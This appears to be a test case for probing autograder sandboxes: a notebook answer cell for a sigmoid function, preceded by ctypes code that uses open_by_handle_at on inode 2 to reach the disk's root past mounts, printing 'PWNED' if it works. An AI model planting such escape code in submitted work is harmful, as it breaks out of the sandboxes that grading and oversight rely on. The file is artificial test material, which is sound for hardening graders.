# /// case
# about = "right answers, and open_by_handle_at for the root folder of the disk, whatever is mounted over it"
# kind = "escape"
# promise = 2
# succeeds_at = ["nbgrader", "otter"]
# ///
# %% sigmoid
# files by number instead of by path: known from the escape out of early containers
import ctypes
import os

class _Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]

def _opened():
    libc = ctypes.CDLL(None, use_errno=True)
    handle, mount = _Handle(bytes=128), ctypes.c_int()
    if libc.name_to_handle_at(-100, os.getcwd().encode(), ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
        return False
    anchor = os.open(".", os.O_RDONLY)
    for inode in (handle.data[0:4], (2, 0, 0, 0)):  # 2 is the root of ext4
        for at, byte in enumerate(inode):
            handle.data[at] = byte
        for at in range(4, 8):
            handle.data[at] = 0
        opened = libc.open_by_handle_at(anchor, ctypes.byref(handle), os.O_RDONLY)
        if opened >= 0:
            os.close(opened)
            return True
    return False

try:
    if _opened():
        print(":".join(["PWNED", "attack/opens_by_inode"]))
except OSError:
    pass

def sigmoid(x, w=1.0, b=0.0):
    return 0.5 * (1 + np.tanh((w * np.asarray(x) + b) / 2))
